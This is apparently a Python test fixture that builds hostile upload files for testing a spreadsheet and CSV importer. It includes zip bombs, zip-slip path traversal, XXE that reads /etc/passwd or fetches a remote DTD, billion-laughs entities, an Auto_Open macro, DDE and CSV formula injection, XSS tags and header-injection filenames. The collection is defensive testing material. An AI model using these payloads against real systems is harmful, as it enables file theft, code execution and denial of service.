"""Files that somebody might send to do harm: (name, content), each called for what it tries."""

from __future__ import annotations

import gzip
import io
import zipfile
import zlib
from typing import TYPE_CHECKING

from openpyxl import Workbook

if TYPE_CHECKING:
    from collections.abc import Callable

HEADER = ["id", "navn", "type", "kommune", "kilde"]
ROW = ["a1", "Lag 1", "frivillig", "5038", "k"]
TYPES = "[Content_Types].xml"
SHEET, STRINGS, BOOK = "xl/worksheets/sheet1.xml", "xl/sharedStrings.xml", "xl/workbook.xml"
STYLES = "xl/styles.xml"
RELATIONS = "xl/_rels/workbook.xml.rels"
ENTITIES = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "' + b"ha" * 50 + b'">' + b"".join(
    f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">'.encode() for n in range(9)
) + b"]>"  # fmt: skip
OUTSIDE = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY j SYSTEM "file:///etc/passwd">]>'
BY_NET = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY % p SYSTEM "http://127.0.0.1:9/x.dtd"> %p;]>'


def book(*rows: list[object], title: str = "aktører") -> bytes:
    """A workbook with a header and some rows."""
    made = Workbook()
    made.active.title = title
    for row in (HEADER, *(rows or (ROW,))):
        made.active.append(row)
    sink = io.BytesIO()
    made.save(sink)
    return sink.getvalue()


def altered(changes: dict[str, bytes], data: bytes | None = None) -> bytes:
    """A workbook with some parts put in place of others, or beside them."""
    sink = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(data or book())) as source,
        zipfile.ZipFile(sink, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as target,
    ):
        for name in source.namelist():
            if name not in changes:
                target.writestr(name, source.read(name))
        for name, content in changes.items():
            target.writestr(name, content)
    return sink.getvalue()


def part(name: str, old: bytes, new: bytes) -> bytes:
    """A workbook with one part edited."""
    with zipfile.ZipFile(io.BytesIO(book())) as source:
        content = source.read(name)
    assert old in content, (name, content[:300])
    return altered({name: content.replace(old, new)})


def headed(name: str, head: bytes) -> bytes:
    """A workbook with another head on one part's XML."""
    with zipfile.ZipFile(io.BytesIO(book())) as source:
        content = source.read(name)
    return altered({name: head + content.partition(b"?>")[2] if b"?>" in content[:60] else head + content})


def bomb(size: int, padding: int = 0) -> bytes:
    """A small workbook that unpacks to *size* bytes in one part; *padding* hides how small it is."""
    noise = zlib.compress(b"x") + bytes((n * n * 31 + n // 7) % 251 for n in range(padding))
    sink = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(book())) as source,
        zipfile.ZipFile(sink, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as target,
    ):
        for name in source.namelist():
            if name != SHEET:
                target.writestr(name, source.read(name))
        target.writestr(zipfile.ZipInfo("xl/media/image1.png"), noise)
        with target.open(SHEET, "w", force_zip64=True) as out:
            out.write(b"<worksheet " + NAMESPACE + b"><sheetData>")
            for _ in range(size // 1_000_000):
                out.write(b" " * 1_000_000)
            out.write(b"</sheetData></worksheet>")
    return sink.getvalue()


def lying() -> bytes:
    """An archive whose list says that a part is smaller than it is."""
    data = bytearray(altered({SHEET: b"<worksheet>" + b" " * 50_000 + b"</worksheet>"}))
    place = data.rfind(b"PK\x01\x02", 0, data.rfind(SHEET.encode()))
    data[place + 24 : place + 28] = (10).to_bytes(4, "little")
    return bytes(data)


def nested() -> bytes:
    """An archive in an archive in an archive."""
    inner = book()
    for _ in range(5):
        sink = io.BytesIO()
        with zipfile.ZipFile(sink, "w", zipfile.ZIP_DEFLATED) as target:
            target.writestr("innhold.xlsx", inner)
        inner = sink.getvalue()
    return inner


def text(*rows: str) -> bytes:
    """A CSV file with a header and some rows."""
    return "\n".join((";".join(HEADER), *(rows or (";".join(ROW),)))).encode()


MACRO = {"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0" + b'Sub Auto_Open()\nShell "calc"\nEnd Sub' * 20}
NAMESPACE = b'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
LINK_PART = "xl/externalLinks/_rels/externalLink1.xml.rels"
LINK = {
    "xl/externalLinks/externalLink1.xml": b"<externalLink " + NAMESPACE + b"/>",
    LINK_PART: b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId1" Type="x" Target="http://127.0.0.1:9/stjel" TargetMode="External"/>'
    b"</Relationships>",
}


def sheet(inside: bytes) -> bytes:
    """A sheet's XML."""
    return b"<worksheet " + NAMESPACE + b">" + inside + b"</worksheet>"


DDE = sheet(
    b'<sheetData><row r="1"><c r="A1" t="str"><f>cmd|\' /C calc\'!A0</f><v>x</v></c></row></sheetData>'
)
FAR = sheet(
    b'<dimension ref="A1:XFD1048576"/><sheetData><row r="1048576">'
    b'<c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row></sheetData>'
)
DEEP = b"<worksheet>" + b"<a>" * 200_000 + b"</a>" * 200_000 + b"</worksheet>"
SCRIPT = "<script>alert(1)</script>"


def _plain_zip(parts: dict[str, bytes]) -> bytes:
    sink = io.BytesIO()
    with zipfile.ZipFile(sink, "w", zipfile.ZIP_DEFLATED) as target:
        for name, content in parts.items():
            target.writestr(name, content)
    return sink.getvalue()


def _twice() -> bytes:
    sink = io.BytesIO(book())
    with zipfile.ZipFile(sink) as source:
        names, held = source.namelist(), {name: source.read(name) for name in source.namelist()}
    raw = _plain_zip({**{name: held[name] for name in names}, "xl/worksheets/sheet9.xml": DDE})
    return raw.replace(b"xl/worksheets/sheet9.xml", b"xl/worksheets/sheet1.xml")


def _many_sheets() -> bytes:
    made = Workbook()
    for number in range(300):
        made.create_sheet(f"ark{number}")
    sink = io.BytesIO()
    made.save(sink)
    return sink.getvalue()


FILES: dict[str, tuple[str, Callable[[], bytes]]] = {
    "bomb, far too small for what it holds": ("b.xlsx", lambda: bomb(60_000_000)),
    "bomb, with padding so that it looks ordinary": ("b.xlsx", lambda: bomb(210_000_000, 800_000)),
    "bomb, of strings": (
        "b.xlsx",
        lambda: altered({STRINGS: b"<sst>" + b"<si><t>x</t></si>" * 2_000_000 + b"</sst>"}),
    ),
    "archive that lies about its sizes": ("b.xlsx", lambda: lying()),
    "archives in archives": ("b.xlsx", lambda: nested()),
    "no archive at all": ("b.xlsx", lambda: b"PK\x03\x04" + b"\0" * 200),
    "cut short": ("b.xlsx", lambda: book()[:-200]),
    "nothing": ("b.xlsx", lambda: b""),
    "nothing, as text": ("b.csv", lambda: b""),
    "an archive without a workbook": (
        "b.xlsx",
        lambda: altered({})[:0] + _plain_zip({"les.txt": b"hei"}),
    ),
    "an archive of three thousand parts": (
        "b.xlsx",
        lambda: _plain_zip({f"{n}.xml": b"x" for n in range(3_000)}),
    ),
    "parts with names outside": (
        "b.xlsx",
        lambda: altered({"../../ut.txt": b"ut", "/etc/ut.txt": b"ut", "..\\ut.txt": b"u"}),
    ),
    "the same part twice": ("b.xlsx", lambda: _twice()),
    "macros": ("b.xlsm", lambda: altered(MACRO)),
    "macros, called a plain workbook": ("b.xlsx", lambda: altered(MACRO)),
    "links to other workbooks": ("b.xlsx", lambda: altered(LINK)),
    "a remote template": ("b.xlsx", lambda: altered({"xl/_rels/template.rels": LINK[LINK_PART]})),
    "a call to another program": ("b.xlsx", lambda: altered({SHEET: DDE})),
    "formulas that fetch": (
        "b.xlsx",
        lambda: book(["a1", '=WEBSERVICE("http://127.0.0.1:9/"&A1)', "frivillig"]),
    ),
    "formulas as text": (
        "b.csv",
        lambda: text('a1;=HYPERLINK("http://127.0.0.1:9/","x");frivillig;5038;k'),
    ),
    "formulas behind a tab": ("b.csv", lambda: text("a1;\t=cmd|' /C calc'!A0;frivillig;5038;k")),
    "formulas with plus, minus and at": (
        "b.csv",
        lambda: text("a1;+1+1;frivillig;5038;k", "a2;-1+1;frivillig;5038;k", "a3;@SUM(1);frivillig;5038;k"),
    ),
    "entities that multiply, in the sheet": ("b.xlsx", lambda: headed(SHEET, ENTITIES)),
    "entities that multiply, in the styles": ("b.xlsx", lambda: headed(STYLES, ENTITIES)),
    "entities that multiply, used": (
        "b.xlsx",
        lambda: altered({STRINGS: ENTITIES + b"<sst><si><t>&j;</t></si></sst>"}),
    ),
    "entities from a file": (
        "b.xlsx",
        lambda: altered({STRINGS: OUTSIDE + b"<sst><si><t>&j;</t></si></sst>"}),
    ),
    "entities from the net": ("b.xlsx", lambda: headed(BOOK, BY_NET)),
    "elements without an end": ("b.xlsx", lambda: altered({SHEET: b"<worksheet>" + b"<row>" * 100_000})),
    "elements nested without an end": ("b.xlsx", lambda: altered({SHEET: DEEP})),
    "the last cell there is": ("b.xlsx", lambda: altered({SHEET: FAR})),
    "a sheet that is not there": (
        "b.xlsx",
        lambda: part(RELATIONS, b"worksheets/sheet1.xml", b"worksheets/../../ut.xml"),
    ),
    "sheets without number": ("b.xlsx", lambda: _many_sheets()),
    "columns without number": (
        "b.csv",
        lambda: (";".join(f"k{n}" for n in range(20_000)) + "\n").encode(),
    ),
    "rows without content": ("b.csv", lambda: text() + b"\n" * 500_000),
    "one cell of ten million signs": ("b.csv", lambda: text(f"a1;{'x' * 10_000_000};frivillig;5038;k")),
    "one quote that is never closed": ("b.csv", lambda: text('a1;"' + "x;\n" * 100_000)),
    "zeros": ("b.csv", lambda: b"\0" * 100_000),
    "noise": ("b.csv", lambda: bytes((n * n * 7 + n // 3) % 256 for n in range(100_000))),
    "a program": ("b.xlsx", lambda: b"MZ" + b"\x90" * 5_000),
    "a program, called text": ("b.csv", lambda: b"\x7fELF" + b"\0" * 5_000),
    "a picture that is a workbook as well": ("b.xlsx", lambda: b"GIF89a" + b"\0" * 50 + book()),
    "a page that is a workbook as well": ("b.xlsx", lambda: f"<html>{SCRIPT}</html>".encode() + book()),
    "a page": ("b.csv", lambda: f"<html>{SCRIPT}</html>".encode()),
    "a picture with a script": ("b.svg", lambda: f"<svg onload='alert(1)'>{SCRIPT}</svg>".encode()),
    "a packed text": ("b.csv", lambda: gzip.compress(b"x" * 50_000_000)),
    "an old workbook": ("b.xls", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 5_000),
    "a sealed workbook": (
        "b.xlsx",
        lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "EncryptedPackage".encode("utf-16-le") * 9,
    ),
    "a name that leads out": ("../../../etc/ut.csv", lambda: text()),
    "a name that leads out, as on Windows": ("..\\..\\ut.csv", lambda: text()),
    "a name that is a path": ("/etc/passwd.csv", lambda: text()),
    "a name with a zero": ("b.csv\0.xlsx", lambda: text()),
    "a name with a script": (f"{SCRIPT}.csv", lambda: text()),
    "a name with line breaks": ("b\r\nSet-Cookie: a=b.csv", lambda: text()),
    "a name without end": ("b" * 5_000 + ".csv", lambda: text()),
    "no name of a kind": ("b", lambda: text()),
    "scripts in every cell": ("b.csv", lambda: text(";".join([SCRIPT] * 5))),
    "scripts in the header": ("b.csv", lambda: f"id;navn;{SCRIPT}\na1;Lag;x".encode()),
    "text that turns round": ("b.csv", lambda: text("a1;Lag \u202egalf\u202c \u2066x;frivillig;5038;k")),
}
"""Every hostile file, by what it tries; made when it is asked for."""
